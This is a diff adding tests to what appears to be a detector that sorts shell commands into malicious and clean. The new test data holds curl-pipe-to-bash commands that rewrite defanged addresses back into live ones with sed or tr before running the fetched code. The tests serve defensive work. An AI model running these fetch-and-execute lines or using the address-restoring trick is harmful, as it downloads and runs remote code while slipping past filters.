@@ -45,3 +45,15 @@ test.for([
 ])("an address that nothing can open doesn't excuse a command that doesn't use it: %s", (command) => {
   expect(verdict(code(command))).toBe("malicious");
 });
+
+test.for([
+  "curl -s hxxp://45[.]61[.]136[.]7/x | sed 's/hxxp/http/' | bash",
+  "curl -s $(echo 'hxxps://dl[.]note-tools[.]top/x' | sed 's/hxxp/http/;s/\\[.\\]/./g') | bash",
+  "curl -s $(echo 'hxxps://dl[.]note-tools[.]top/x' | tr -d '[]' | sed s/xx/tt/) | bash",
+])("an address that nothing can open is a real one if the line restores it: %s", (command) => {
+  expect(verdict(code(command))).toBe("malicious");
+});
+
+test("a report about an address that nothing can open is clean", () => {
+  expect(verdict("The script ran `curl hxxps://dl[.]note-tools[.]top/x | bash`.")).toBe("clean");
+});
